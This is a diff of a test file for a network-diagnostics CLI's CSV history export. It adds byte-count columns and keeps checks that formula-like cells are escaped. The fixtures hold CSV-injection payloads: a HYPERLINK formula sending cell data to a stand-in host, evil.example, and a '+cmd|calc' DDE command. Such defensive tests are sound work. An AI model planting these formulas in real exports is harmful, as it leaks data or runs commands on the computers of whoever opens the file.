@@ -130,29 +130,29 @@ describe("netdiag monitor import and export: the page's history file", () => {
     const listed = await runCli(['monitor', 'history', '--csv', '--config', config]);
     expect(listed.code).toBe(0);
     const [header, first, second] = listed.stdout.trimEnd().split('\n');
-    expect(header).toBe('started_at,check,server,outcome,ok,error,breaches,figures,chosen,source_address');
+    expect(header).toBe('started_at,check,server,outcome,ok,error,breaches,figures,chosen,source_address,bytes_down,bytes_up');
     // RFC 4180 cells, each text one that would start a formula led by an apostrophe.
-    expect(first?.split(',').slice(3).join(',')).toBe(`failed,false,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")","the check did not run: =HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",{},,`);
-    expect(second?.split(',').slice(3).join(',')).toBe(`ok,true,'@SUM(1+1),'-2+3,"{""answers"":""+cmd|calc""}",,`);
+    expect(first?.split(',').slice(3).join(',')).toBe(`failed,false,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")","the check did not run: =HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",{},,,,`);
+    expect(second?.split(',').slice(3).join(',')).toBe(`ok,true,'@SUM(1+1),'-2+3,"{""answers"":""+cmd|calc""}",,,,`);
   });
 
-  it('history --csv ends each row with the server an auto run chose and the source it was sent from, the older columns where they were', async () => {
+  it('history --csv ends each row with the server an auto run chose, the source it was sent from and the bytes it moved, the older columns where they were', async () => {
     const config = join(dir, 'chosen.yaml');
     const database = join(dir, 'chosen.db');
     writeFileSync(config, `servers: [http://127.0.0.1:9, auto]\ndatabase: ${database}\nlisten: off\nchecks:\n  - name: rt\n    run: latency\n    source: 127.0.0.2\n    every: 1h\n`);
     const store = await openStore(database);
     store.addRun({ check: 'rt', server: 'auto', startedAt: daysAgo(1), durationMs: 5, ok: true, error: null, figures: { client_to_api_rtt_ms: 4 }, breaches: [], chosen: 'http://near.example:8080', sourceAddress: '127.0.0.2' });
     store.addRun({ check: 'rt', server: 'http://127.0.0.1:9', startedAt: daysAgo(0.5), durationMs: 5, ok: true, error: null, figures: { client_to_api_rtt_ms: 9 }, breaches: [], chosen: null, sourceAddress: '2001:db8::7' });
-    store.addRun({ check: 'rt', server: 'http://127.0.0.1:9', startedAt: daysAgo(0.25), durationMs: 5, ok: true, error: null, figures: { client_to_api_rtt_ms: 8 }, breaches: [] });
+    store.addRun({ check: 'rt', server: 'http://127.0.0.1:9', startedAt: daysAgo(0.25), durationMs: 5, ok: true, error: null, figures: { client_to_api_rtt_ms: 8 }, breaches: [], bytesDown: 25_000_000, bytesUp: 12_500_000 });
     store.close();
     const listed = await runCli(['monitor', 'history', '--csv', '--config', config]);
     expect(listed.code, listed.stderr).toBe(0);
     const [header, ...rows] = listed.stdout.trimEnd().split('\n');
-    expect(header).toBe('started_at,check,server,outcome,ok,error,breaches,figures,chosen,source_address');
+    expect(header).toBe('started_at,check,server,outcome,ok,error,breaches,figures,chosen,source_address,bytes_down,bytes_up');
     expect(rows.map((r) => r.split(',').slice(1))).toEqual([
-      ['rt', 'auto', 'ok', 'true', '', '', '"{""client_to_api_rtt_ms"":4}"', 'http://near.example:8080', '127.0.0.2'],
-      ['rt', 'http://127.0.0.1:9', 'ok', 'true', '', '', '"{""client_to_api_rtt_ms"":9}"', '', '2001:db8::7'],
-      ['rt', 'http://127.0.0.1:9', 'ok', 'true', '', '', '"{""client_to_api_rtt_ms"":8}"', '', ''],
+      ['rt', 'auto', 'ok', 'true', '', '', '"{""client_to_api_rtt_ms"":4}"', 'http://near.example:8080', '127.0.0.2', '', ''],
+      ['rt', 'http://127.0.0.1:9', 'ok', 'true', '', '', '"{""client_to_api_rtt_ms"":9}"', '', '2001:db8::7', '', ''],
+      ['rt', 'http://127.0.0.1:9', 'ok', 'true', '', '', '"{""client_to_api_rtt_ms"":8}"', '', '', '25000000', '12500000'],
     ]);
   });
 });
